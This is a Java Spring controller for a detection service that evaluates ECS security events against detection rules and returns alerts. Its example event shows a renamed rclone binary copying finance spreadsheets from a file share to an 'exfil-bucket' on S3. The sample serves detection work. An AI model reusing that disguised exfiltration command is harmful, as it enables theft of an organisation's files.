package io.verdict.api;

import java.io.IOException;
import java.io.OutputStream;
import java.time.Clock;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;

import org.springframework.http.MediaType;
import org.springframework.web.bind.annotation.PostMapping;
import org.springframework.web.bind.annotation.RequestHeader;
import org.springframework.web.bind.annotation.RequestMapping;
import org.springframework.web.bind.annotation.RequestParam;
import org.springframework.web.bind.annotation.RestController;

import io.swagger.v3.oas.annotations.Operation;
import io.swagger.v3.oas.annotations.Parameter;
import io.swagger.v3.oas.annotations.media.Content;
import io.swagger.v3.oas.annotations.media.ExampleObject;
import io.swagger.v3.oas.annotations.media.Schema;
import io.swagger.v3.oas.annotations.responses.ApiResponse;
import io.swagger.v3.oas.annotations.tags.Tag;
import io.verdict.config.VerdictProperties;
import io.verdict.engine.Alert;
import io.verdict.engine.Detections;
import io.verdict.engine.Detector;
import io.verdict.engine.Evaluation;
import io.verdict.engine.KibanaAlerts;
import io.verdict.engine.Plan;
import io.verdict.engine.Selection;
import io.verdict.event.Event;
import io.verdict.explain.AlertTraces;
import io.verdict.rule.RuleType;
import jakarta.servlet.http.HttpServletRequest;
import jakarta.servlet.http.HttpServletResponse;
import tools.jackson.databind.ObjectWriter;
import tools.jackson.databind.json.JsonMapper;

/** Evaluates ECS events against the loaded rules: one event, a JSON array, or an NDJSON stream. */
@RestController
@RequestMapping("/api/v1/evaluate")
@Tag(name = "Evaluate", description = "Verdicts on ECS events: which rules match, with severity, ATT&CK, guide and reason")
class EvaluateController {

    static final String NDJSON = "application/x-ndjson";

    private static final List<String> KNOWN_TYPES = Arrays.stream(RuleType.values()).map(RuleType::id).toList();

    private final Detections detections;
    private final PlanCache plans;
    private final EventReader reader;
    private final VerdictProperties.Evaluate limits;
    private final EvaluationMetrics metrics;
    private final JsonMapper json;
    private final ObjectWriter verdictWriter;
    private final Clock clock;
    private final AlertTraces traces;

    EvaluateController(Detections detections, VerdictProperties properties, EvaluationMetrics metrics, JsonMapper json) {
        this.detections = detections;
        this.plans = new PlanCache(detections);
        this.limits = properties.evaluate();
        this.reader = new EventReader(limits, () -> detections.current().fields());
        this.metrics = metrics;
        this.json = json;
        this.verdictWriter = json.writerFor(EvaluateResponse.class);
        this.clock = Clock.systemUTC();
        this.traces = new AlertTraces(io.verdict.event.Schema.ecs(), clock, json);
    }

    /** What a request asks besides its events. */
    private record Options(boolean kibana, boolean includeEvent, Selection selection, boolean explain) {
    }

    @PostMapping(consumes = MediaType.APPLICATION_JSON_VALUE, produces = MediaType.APPLICATION_JSON_VALUE)
    @Operation(summary = "Evaluate one event", description = "Runs one ECS event (nested or dotted keys) against the"
            + " selected rules and returns an alert for each rule that matches.",
            requestBody = @io.swagger.v3.oas.annotations.parameters.RequestBody(required = true, content = @Content(
                    mediaType = MediaType.APPLICATION_JSON_VALUE, schema = @Schema(type = "object"),
                    examples = @ExampleObject(name = "rclone copy to S3", value = RCLONE_EVENT))))
    @ApiResponse(responseCode = "200", description = "the verdict", content = @Content(
            mediaType = MediaType.APPLICATION_JSON_VALUE, schema = @Schema(implementation = EvaluateResponse.class)))
    @ApiResponse(responseCode = "400", description = "malformed JSON (with line and column), not an object, too deep,"
            + " or a bad parameter", content = @Content(mediaType = "application/problem+json"))
    @ApiResponse(responseCode = "413", description = "the event is larger than allowed",
            content = @Content(mediaType = "application/problem+json"))
    @ApiResponse(responseCode = "415", description = "not application/json",
            content = @Content(mediaType = "application/problem+json"))
    void evaluate(HttpServletRequest request, HttpServletResponse response,
            @Parameter(description = "verdict (default) or kibana: alerts as Kibana detection-alert documents")
            @RequestParam(defaultValue = "verdict") String format,
            @Parameter(description = "include the event in each alert")
            @RequestParam(name = "include_event", defaultValue = "false") boolean includeEvent,
            @Parameter(description = "only these rule_ids (repeat or comma-separate)")
            @RequestParam(name = "rule_id", required = false) List<String> ruleIds,
            @Parameter(description = "only rules with one of these tags") @RequestParam(name = "tag", required = false) List<String> tags,
            @Parameter(description = "only rules of these types") @RequestParam(name = "type", required = false) List<String> types,
            @Parameter(description = "add to each alert the clause tree that made it match (explanation; Kibana"
                    + " format: verdict.explanation); computed only for alerts")
            @RequestParam(defaultValue = "false") boolean explain)
            throws IOException {
        Options options = options(format, includeEvent, ruleIds, tags, types, explain);
        Event event = reader.single(request.getInputStream());
        Detector detector = detections.current();
        Plan plan = plans.plan(detector, options.selection(), limits.unroutedEvents());
        Evaluation evaluation = evaluate(plan, event, options);
        write(response, new EvaluateResponse(evaluation.matched(), alerts(detector, evaluation, event, options),
                evaluation.evaluated(), evaluation.notRouted(), plan.skipped(),
                evaluation.failures().stream().map(f -> new EvaluateResponse.RuleError(f.ruleId(), f.message())).toList()));
    }

    /**
     * Writes the verdict straight to the response with a writer made once: Spring's return-value handling
     * (converter lookup, content negotiation, type resolution) cost more per request than serialising the answer
     * (JFR, single events at 1,000/s). The mapping's {@code produces} has already answered 406 to an Accept that
     * excludes JSON, so JSON is what the client takes.
     */
    private void write(HttpServletResponse response, EvaluateResponse verdict) throws IOException {
        response.setContentType(MediaType.APPLICATION_JSON_VALUE);
        verdictWriter.writeValue(response.getOutputStream(), verdict);
    }

    @PostMapping(path = "/_batch", consumes = {MediaType.APPLICATION_JSON_VALUE, NDJSON},
            produces = {MediaType.APPLICATION_JSON_VALUE, NDJSON})
    @Operation(summary = "Evaluate a batch of events", description = """
            Body: a JSON array of events, or application/x-ndjson with one event a line; both are read as a stream. \
            A line or element that is not a JSON object is reported with its line number (or index) and the batch \
            goes on. With Accept: application/x-ndjson the answer streams out one line per alert as it is found \
            ({"type":"alert","line":n,"alert":{...}}), then error lines and a closing summary line.""")
    @ApiResponse(responseCode = "200", description = "the verdicts")
    @ApiResponse(responseCode = "400", description = "a JSON array body that is malformed (with line and column)",
            content = @Content(mediaType = "application/problem+json"))
    @ApiResponse(responseCode = "413", description = "more events or bytes than allowed",
            content = @Content(mediaType = "application/problem+json"))
    Object batch(HttpServletRequest request, HttpServletResponse response,
            @RequestHeader(name = "Accept", required = false) String accept,
            @RequestParam(defaultValue = "verdict") String format,
            @RequestParam(name = "include_event", defaultValue = "false") boolean includeEvent,
            @RequestParam(name = "rule_id", required = false) List<String> ruleIds,
            @RequestParam(name = "tag", required = false) List<String> tags,
            @RequestParam(name = "type", required = false) List<String> types,
            @RequestParam(defaultValue = "false") boolean explain) throws IOException {
        Options options = options(format, includeEvent, ruleIds, tags, types, explain);
        Detector detector = detections.current();
        Plan plan = plans.plan(detector, options.selection(), limits.unroutedEvents());
        boolean ndjsonIn = request.getContentType() != null && request.getContentType().startsWith(NDJSON);
        BatchRun run = new BatchRun(this, detector, plan, options, ndjsonIn);
        if (accept != null && accept.contains(NDJSON) && !accept.contains(MediaType.APPLICATION_JSON_VALUE)) {
            response.setContentType(NDJSON);
            run.stream(request.getInputStream(), response.getOutputStream());
            return null;
        }
        return run.collect(request.getInputStream());
    }

    Evaluation evaluate(Plan plan, Event event, Options options) {
        long started = System.nanoTime();
        Evaluation evaluation = plan.evaluate(event, options.includeEvent());
        metrics.record(evaluation, System.nanoTime() - started);
        return evaluation;
    }

    /** A batch's event on a worker: the stateless rules' alerts, and the stateful rules it goes to later. */
    Plan.Decided decide(Plan plan, Event event, Options options) {
        long started = System.nanoTime();
        Plan.Decided decided = plan.decide(event, options.includeEvent());
        metrics.record(decided.evaluation(), System.nanoTime() - started);
        return decided;
    }

    List<Object> alerts(Detector detector, Evaluation evaluation, Event event, Options options) {
        List<Object> shaped = shape(detector, evaluation, event, options);
        return options.explain() && !shaped.isEmpty() ? traces.attach(detector, evaluation.alerts(), shaped, event) : shaped;
    }

    private List<Object> shape(Detector detector, Evaluation evaluation, Event event, Options options) {
        if (!options.kibana()) {
            return List.copyOf(evaluation.alerts());
        }
        Instant now = clock.instant();
        List<Object> documents = new ArrayList<>(evaluation.alerts().size());
        for (Alert alert : evaluation.alerts()) {
            detector.find(alert.rule().ruleId()).ifPresent(rule ->
                    documents.add(KibanaAlerts.document(alert, rule.rule(), event, now)));
        }
        return documents;
    }

    private static Options options(String format, boolean includeEvent, List<String> ruleIds, List<String> tags,
                                   List<String> types, boolean explain) {
        if (!format.equals("verdict") && !format.equals("kibana")) {
            throw new InvalidParameterException("format", format, List.of("verdict", "kibana"));
        }
        if (ruleIds == null && tags == null && types == null) {
            return new Options(format.equals("kibana"), includeEvent, Selection.ALL, explain);
        }
        Set<String> typeIds = split(types);
        typeIds.stream().filter(t -> !KNOWN_TYPES.contains(t)).findFirst().ifPresent(t -> {
            throw new InvalidParameterException("type", t, KNOWN_TYPES);
        });
        return new Options(format.equals("kibana"), includeEvent, new Selection(split(ruleIds), split(tags), typeIds),
                explain);
    }

    private static Set<String> split(List<String> values) {
        if (values == null) {
            return Set.of();
        }
        return values.stream().flatMap(v -> Arrays.stream(v.split(","))).map(String::strip)
                .filter(v -> !v.isEmpty()).collect(java.util.stream.Collectors.toSet());
    }

    /**
     * One batch request: reads its items, evaluates them, and collects or streams the answer. Items are read on
     * the request thread and counted there against the limits; past one chunk they are parsed (NDJSON) and
     * evaluated on all cores by a {@link ChunkedPipeline}, and accounted for back on the request thread in input
     * order, so the answer is the same as evaluating them one by one.
     */
    private static final class BatchRun {

        /** Items per chunk handed to a worker: large enough to amortise the hand-over, small enough to stream. */
        private static final int CHUNK = 256;

        /**
         * An event waiting for the stateful rules whose queries it passes ({@code stateful}): its time, then its
         * place in the batch, order them.
         */
        private record Deferred(EventReader.Item item, int[] stateful, long time, int order) {
        }

        /**
         * One item evaluated: its alerts already shaped for the response (none when it is not an event), and the
         * stateful rules to feed it to.
         */
        private record Outcome(EventReader.Item item, Evaluation evaluation, List<Object> alerts, int[] stateful) {
        }

        private final EvaluateController owner;
        private final Detector detector;
        private final Plan plan;
        private final Options options;
        private final boolean ndjsonIn;
        private final List<BatchResponse.Result> results = new ArrayList<>();
        /** Events kept for the stateful rules, fed in (time, input order) once the batch is read. */
        private final List<Deferred> deferred = new ArrayList<>();
        private final Map<Integer, Integer> resultAt = new java.util.HashMap<>();
        private final java.util.Set<Integer> matchedItems = new java.util.HashSet<>();
        private final List<BatchResponse.ItemError> errors = new ArrayList<>();
        private OutputStream out;
        private int items;
        private int events;
        private int matched;
        private int alerts;
        private long notRouted;

        BatchRun(EvaluateController owner, Detector detector, Plan plan, Options options, boolean ndjsonIn) {
            this.owner = owner;
            this.detector = detector;
            this.plan = plan;
            this.options = options;
            this.ndjsonIn = ndjsonIn;
        }

        BatchResponse collect(java.io.InputStream body) {
            run(body, first -> {
                throw BadInputException.tooLarge("The batch has more than " + owner.limits.maxBatchEvents()
                        + " events; split it.");
            });
            return new BatchResponse(items, events, matched, alerts, plan.evaluating(), plan.skipped(), notRouted,
                    results, errors);
        }

        void stream(java.io.InputStream body, OutputStream out) throws IOException {
            this.out = out;
            BatchResponse.ItemError[] overflow = new BatchResponse.ItemError[1];
            run(body, first -> overflow[0] = new BatchResponse.ItemError(ndjsonIn ? null : first, ndjsonIn ? first : null,
                    null, null, "the batch has more than " + owner.limits.maxBatchEvents() + " events; the rest is not read"));
            if (overflow[0] != null) {
                errors.add(overflow[0]);
                write(errorLine(overflow[0]));
            }
            Map<String, Object> summary = new LinkedHashMap<>();
            summary.put("type", "summary");
            summary.put("items", items);
            summary.put("events", events);
            summary.put("matched_events", matched);
            summary.put("alerts", alerts);
            summary.put("evaluating_rules", plan.evaluating());
            summary.put("skipped_rules", plan.skipped());
            summary.put("not_routed", notRouted);
            summary.put("errors", errors.size());
            write(summary);
            out.flush();
        }

        /**
         * Reads, evaluates and accounts for every item; {@code overLimit} gets (on the request thread) the position
         * (line or index) of the first item past the batch limit, which is then neither counted nor read further.
         */
        private void run(java.io.InputStream body, java.util.function.IntConsumer overLimit) {
            ChunkedPipeline<Object, Outcome> pipeline = new ChunkedPipeline<>(this::evaluate, this::account,
                    this::flush, CHUNK);
            try {
                java.util.function.Predicate<Object> next = item -> {
                    if (++items > owner.limits.maxBatchEvents()) {
                        items--;
                        overLimit.accept(item instanceof EventReader.RawLine line ? line.number()
                                : ((EventReader.Item) item).position());
                        return false;
                    }
                    pipeline.add(item);
                    return true;
                };
                if (ndjsonIn) {
                    owner.reader.lines(body, next::test);
                } else {
                    owner.reader.array(body, next::test);
                }
                pipeline.finish();
                feedStateful();
            } finally {
                pipeline.abandon();
            }
        }

        /**
         * The stateful rules over the batch's events in event-time order (ties in input order), as Elasticsearch
         * orders a search; their alerts join the results of the events that completed them.
         */
        private void feedStateful() {
            deferred.sort(java.util.Comparator.comparingLong(Deferred::time).thenComparingInt(Deferred::order));
            for (Deferred d : deferred) {
                EventReader.Item item = d.item();
                Evaluation stateful = plan.feed(item.event(), d.stateful(), options.includeEvent());
                if (!stateful.matched() && stateful.failures().isEmpty()) {
                    continue;
                }
                owner.metrics.alerts(stateful);
                List<Object> shaped = owner.alerts(detector, stateful, item.event(), options);
                alerts += stateful.alerts().size();
                if (stateful.matched() && matchedItems.add(item.position())) {
                    matched++;
                }
                int errorsBefore = errors.size();
                for (Evaluation.RuleFailure failure : stateful.failures()) {
                    errors.add(new BatchResponse.ItemError(index(item), line(item), null, failure.ruleId(), failure.message()));
                }
                if (out == null) {
                    Integer at = resultAt.get(item.position());
                    if (at == null) {
                        resultAt.put(item.position(), results.size());
                        results.add(new BatchResponse.Result(index(item), line(item), shaped));
                    } else {
                        List<Object> both = new ArrayList<>(results.get(at).alerts());
                        both.addAll(shaped);
                        results.set(at, new BatchResponse.Result(index(item), line(item), both));
                    }
                    continue;
                }
                for (Object alert : shaped) {
                    write(line("alert", item, Map.of("alert", alert)));
                }
                errors.subList(errorsBefore, errors.size()).forEach(error -> write(errorLine(error)));
            }
            deferred.clear();
            results.sort(java.util.Comparator.comparingInt(r -> r.index() != null ? r.index() : r.line()));
        }

        /** On a worker: parses a raw line, evaluates an event, shapes its alerts. */
        private Outcome evaluate(Object read) {
            EventReader.Item item = read instanceof EventReader.RawLine line ? owner.reader.parse(line)
                    : (EventReader.Item) read;
            if (item.event() == null) {
                return new Outcome(item, null, List.of(), null);
            }
            Plan.Decided decided = owner.decide(plan, item.event(), options);
            Evaluation evaluation = decided.evaluation();
            List<Object> shaped = evaluation.matched() ? owner.alerts(detector, evaluation, item.event(), options) : List.of();
            return new Outcome(item, evaluation, shaped, decided.stateful());
        }

        /** On the request thread, in input order: counts, errors, results or streamed lines. */
        private void account(Outcome outcome) {
            EventReader.Item item = outcome.item();
            int errorsBefore = errors.size();
            Evaluation evaluation = outcome.evaluation();
            List<Object> shaped = outcome.alerts();
            if (evaluation != null && outcome.stateful().length > 0) {
                // stateful rules need the batch's events in time order: they get them after the last one is read
                deferred.add(new Deferred(item, outcome.stateful(), TimeOrder.of(item.event()), deferred.size()));
            }
            if (evaluation != null && evaluation.matched()) {
                matchedItems.add(item.position());
            }
            if (evaluation == null) {
                owner.metrics.rejected();
                errors.add(new BatchResponse.ItemError(index(item), line(item), item.column(), null, item.error()));
            } else {
                events++;
                notRouted += evaluation.notRouted();
                if (evaluation.matched()) {
                    matched++;
                    alerts += evaluation.alerts().size();
                }
                for (Evaluation.RuleFailure failure : evaluation.failures()) {
                    errors.add(new BatchResponse.ItemError(index(item), line(item), null, failure.ruleId(), failure.message()));
                }
            }
            if (out == null) {
                if (evaluation != null && (evaluation.matched() || !evaluation.failures().isEmpty())) {
                    resultAt.put(item.position(), results.size());
                    results.add(new BatchResponse.Result(index(item), line(item), shaped));
                }
                return;
            }
            for (Object alert : shaped) {
                write(line("alert", item, Map.of("alert", alert)));
            }
            errors.subList(errorsBefore, errors.size()).forEach(error -> write(errorLine(error)));
        }

        private Integer index(EventReader.Item item) {
            return ndjsonIn ? null : item.position();
        }

        private Integer line(EventReader.Item item) {
            return ndjsonIn ? item.position() : null;
        }

        private static Map<String, Object> errorLine(BatchResponse.ItemError error) {
            return line("error", error.index(), error.line(), Map.of("message", error.message()), error.ruleId(),
                    error.column());
        }

        private Map<String, Object> line(String type, EventReader.Item item, Map<String, Object> body) {
            return line(type, index(item), line(item), body, null, null);
        }

        private static Map<String, Object> line(String type, Integer index, Integer line, Map<String, Object> body,
                                                String ruleId, Integer column) {
            Map<String, Object> out = new LinkedHashMap<>();
            out.put("type", type);
            if (index != null) {
                out.put("index", index);
            }
            if (line != null) {
                out.put("line", line);
            }
            if (column != null) {
                out.put("column", column);
            }
            if (ruleId != null) {
                out.put("rule_id", ruleId);
            }
            out.putAll(body);
            return out;
        }

        private void write(Object line) {
            try {
                out.write(owner.json.writeValueAsBytes(line));
                out.write('\n');
            } catch (IOException e) {
                throw new java.io.UncheckedIOException(e);
            }
        }

        /** After each chunk: what was found so far goes out now (the answer streams). */
        private void flush() {
            if (out != null) {
                try {
                    out.flush();
                } catch (IOException e) {
                    throw new java.io.UncheckedIOException(e);
                }
            }
        }
    }

    static final String RCLONE_EVENT = """
            {
              "@timestamp": "2026-11-27T10:15:00.000Z",
              "event": {"category": ["process"], "type": ["start"], "kind": "event", "ingested": "2026-11-27T10:15:01.000Z"},
              "host": {"name": "fin-ws-042", "os": {"type": "windows"}},
              "user": {"name": "j.doe"},
              "process": {
                "name": "TrendFileSecurityCheck.exe",
                "pe": {"original_file_name": "rclone.exe"},
                "executable": "C:\\\\Users\\\\Public\\\\TrendFileSecurityCheck.exe",
                "args": ["TrendFileSecurityCheck.exe", "copy", "\\\\\\\\fs01\\\\finance", ":s3:exfil-bucket/q4", "--include", "*.xlsx", "--transfers", "32"],
                "parent": {"name": "cmd.exe"}
              },
              "data_stream": {"type": "logs", "dataset": "endpoint.events.process", "namespace": "default"}
            }""";
}
